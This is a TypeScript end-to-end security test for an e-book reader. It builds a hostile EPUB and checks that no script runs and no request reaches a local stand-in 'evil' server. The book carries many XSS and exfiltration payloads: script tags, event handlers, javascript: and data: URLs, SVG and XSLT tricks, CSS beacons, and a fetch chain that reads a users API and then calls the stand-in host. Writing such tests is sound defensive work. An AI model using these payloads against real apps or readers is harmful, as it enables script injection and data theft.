/** Malicious e-books: nothing in them is executed, reaches the server or reveals anything. */
import { afterAll, beforeAll, expect, test } from 'bun:test'
import type { Page } from 'playwright-core'
import { waitUntil } from './harness'
import { waitUntilQuiet } from './quiet'
import {
  evaluateInBook,
  bookFrame,
  openTextShelf,
  type TextShelf,
  waitUntilVisible,
} from './text-shelf'
import type { makeTinyEpub } from './tiny-epub'

const timeoutMs = 60_000
let shelf: TextShelf
let evil: ReturnType<typeof Bun.serve>
const leaks: string[] = []

beforeAll(async () => {
  // Receives every request that the malicious book manages to send.
  evil = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    fetch(request) {
      leaks.push(new URL(request.url).pathname)
      return new Response('')
    },
  })
  shelf = await openTextShelf([hostileBook(evil.url.origin)])
}, 120_000)

afterAll(async () => {
  await shelf?.close()
  await evil?.stop(true)
})

/** Builds a book with many attack vectors. Each sends a request or sets `hacked` on the window. */
function hostileBook(origin: string): Parameters<typeof makeTinyEpub>[0] {
  const mark = `top.hacked = true; parent.hacked = true; new Image().src = '${origin}/script'; fetch('/api/v1/users').then((answer) => fetch('${origin}/stolen'))`
  const html = `
    <p>Chapter 1, paragraph 1. Nothing to see here.</p>
    <script>${mark}</script><script src="evil.js"></script><script src="${origin}/remote.js"></script>
    <img src="nothing.png" onerror="${mark}" alt=""/><img src="${origin}/image" alt=""/>
    <img src="/api/v1/users" alt=""/>
    <svg xmlns="http://www.w3.org/2000/svg" onload="${mark}"><script>${mark}</script></svg>
    <iframe srcdoc="&lt;script&gt;top.hacked = true&lt;/script&gt;"></iframe>
    <iframe src="${origin}/frame"></iframe><object data="${origin}/object"></object>
    <embed src="${origin}/embed"/><link rel="stylesheet" href="${origin}/style.css"/>
    <style>@import url('${origin}/import.css'); p { background: url('${origin}/background') }</style>
    <form id="form" action="${origin}/form"><input name="a"/></form>
    <p><a id="script-link" href="javascript:${mark.replaceAll('"', '')}">a link</a></p>
    <p><a id="tab-link" href="c2.xhtml" target="_top">another</a></p>
    <video src="${origin}/video" autoplay="autoplay" poster="${origin}/poster"></video>
    <img srcset="${origin}/srcset 1x, ${origin}/srcset 2x" alt=""/>
    <picture><source srcset="${origin}/source"/><img src="nothing.png" alt=""/></picture>
    <style>@font-face { font-family: Evil; src: url('${origin}/font') } p { font-family: Evil }
      p::before { content: url('${origin}/content') } body { cursor: url('${origin}/cursor'), auto }</style>
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
      <foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${mark}"><script>${mark}</script>
        <img src="nothing.png" onerror="${mark}" alt=""/></body></foreignObject>
      <image xlink:href="${origin}/drawing"/><use xlink:href="${origin}/use#a"/>
      <a xlink:href="javascript:${mark.replaceAll('"', '')}"><text id="drawn-link">drawn</text></a>
      <set attributeName="href" onbegin="${mark}" begin="0s" to="x"/></svg>
    <iframe src="data:text/html,&lt;script&gt;top.hacked = true&lt;/script&gt;"></iframe>
    <object data="data:text/html,&lt;script&gt;top.hacked = true&lt;/script&gt;"></object>
    <link rel="prefetch" href="${origin}/prefetch"/><link rel="preload" as="image" href="${origin}/preload"/>
    <link rel="icon" href="${origin}/icon"/><link rel="preconnect" href="${origin}"/>
    <p><a id="data-link" href="data:text/html,&lt;script&gt;top.hacked = true&lt;/script&gt;" target="_top">data</a></p>
    <p><a id="ping-link" href="c3.xhtml" ping="${origin}/ping">ping</a></p>
    <form id="self-form" action="javascript:top.hacked = true" target="_top"><button id="send" formaction="${origin}/formaction">send</button></form>`
  const refresh = `<meta http-equiv="refresh" content="0;url=${origin}/refresh"/><p>Chapter 2.</p>`
  const unclosed = `<p>Chapter 3. <b>Unclosed</p><script>${mark}</script><img src="${origin}/unclosed" onerror="${mark}">`
  const chapters = [
    { title: 'One', html, head: `<base href="${origin}/base/" target="_top"/>` },
    { title: 'Two', html: refresh },
    { title: 'Three', html: unclosed },
    { title: 'Four', html: '<p>Chapter 4.</p>', prologue: buildStylesheets(origin) },
    { title: 'Five', html: '<p>Chapter 5. The last.</p>' },
  ]
  const files = { 'OEBPS/evil.js': mark, 'OEBPS/evil.xsl': buildTransformation(mark) }
  return { title: 'Hostile', chapters, files }
}

/** Builds references to stylesheets. The XSLT ones would rewrite the whole document. */
const buildStylesheets = (origin: string) =>
  `<?xml-stylesheet type="text/xsl" href="evil.xsl"?><?xml-stylesheet type="text/xsl" href="${origin}/sheet.xsl"?><?xml-stylesheet type="text/css" href="${origin}/sheet.css"?>`

const buildTransformation = (script: string) =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>Rewritten.</p><script>${script}</script></body></html></xsl:template></xsl:stylesheet>`

const isHacked = (page: Page) => page.evaluate(() => 'hacked' in window)

test(
  'S8: a malicious e-book runs no script and sends no request',
  async () => {
    const seen = await shelf.signedIn({ mayBreakRules: true })
    const { page } = seen
    // Blocked requests are recorded, too. Only a response proves that a request left the browser.
    const answered: string[] = []
    page.on('response', (answer) => void answered.push(new URL(answer.url()).pathname))
    await shelf.open(seen, 'Hostile')
    await waitUntilVisible(page, 'Chapter 1, paragraph 1')
    const frame = bookFrame(page)!
    await frame.evaluate(() => {
      for (const form of document.querySelectorAll('form')) form.submit()
      for (const id of ['script-link', 'data-link', 'drawn-link', 'send']) {
        document.getElementById(id)?.dispatchEvent(new MouseEvent('click', { bubbles: true }))
      }
    })
    await page.getByRole('button', { name: 'Search this book' }).click()
    await page.getByRole('searchbox').fill('Chapter')
    await page.keyboard.press('Enter')
    await page.getByText(/^\d+ results$/).waitFor()
    await page.getByRole('button', { name: 'Contents' }).click()
    for (const [title, words] of chapters) {
      await page.getByRole('button', { name: title }).click()
      await waitUntil(async () => {
        const text = await evaluateInBook(page, () => document.body.textContent)
        return text?.includes(words) === true
      }, `${words} is there`)
      await waitUntilQuiet(seen)
    }
    expect(await isHacked(page)).toBe(false)
    expect(page.url()).toContain(`/read/${shelf.idOf('Hostile')}`)
    expect(leaks).toEqual([])
    expect(answered.filter((path) => path.startsWith('/api/v1/users'))).toEqual([])
    expect(answered.filter((path) => /evil\.(js|xsl)$/.test(path))).toEqual([])
    await seen.context.close()
  },
  timeoutMs,
)

/** Chapters to open and their text. The last one is harmless, so earlier attacks have time. */
const chapters = [
  ['Two', 'Chapter 2.'],
  ['Three', 'Chapter 3.'],
  ['Four', 'Chapter 4.'],
  ['Five', 'Chapter 5.'],
] as const
